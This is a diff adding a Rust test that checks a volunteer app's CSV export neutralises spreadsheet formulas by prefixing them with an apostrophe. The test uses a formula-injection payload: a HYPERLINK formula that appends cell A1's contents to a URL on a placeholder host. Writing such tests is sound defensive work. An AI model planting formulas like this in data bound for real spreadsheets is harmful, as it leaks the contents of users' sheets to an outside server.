@@ -480,3 +480,31 @@ async fn the_annual_report_holds_the_years_aggregates_and_nothing_personal() {
         .await
         .assert_problem(422, Some("text"));
 }
+
+#[tokio::test]
+async fn a_volunteers_text_reaches_the_team_leads_csv_as_text_not_as_a_formula() {
+    use axum::http::Method;
+    let app = TestApp::spawn().await;
+    let volunteer = app.login("dolmetscher").await;
+    let formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Details\")";
+    let changed = app
+        .call(
+            Method::PATCH,
+            "/api/v1/me/profile",
+            Some(&volunteer),
+            Some(serde_json::json!({ "home_team": formula })),
+        )
+        .await;
+    assert_eq!(changed.status, StatusCode::OK, "{}", changed.text);
+    let mut lead = crate::web::Browser::new(&app);
+    lead.log_in("teamleitung").await;
+    let csv = lead.get("/dashboard/export.csv?table=volunteers").await;
+    assert_eq!(csv.status, StatusCode::OK, "{}", csv.text);
+    let mut reader = ::csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(csv.text.trim_start_matches('\u{feff}').as_bytes());
+    let teams: Vec<String> =
+        reader.records().filter_map(Result::ok).map(|r| r[1].to_owned()).collect();
+    assert!(teams.contains(&format!("'{formula}")), "{teams:?}");
+    assert!(!teams.iter().any(|t| t.starts_with('=')), "{teams:?}");
+}
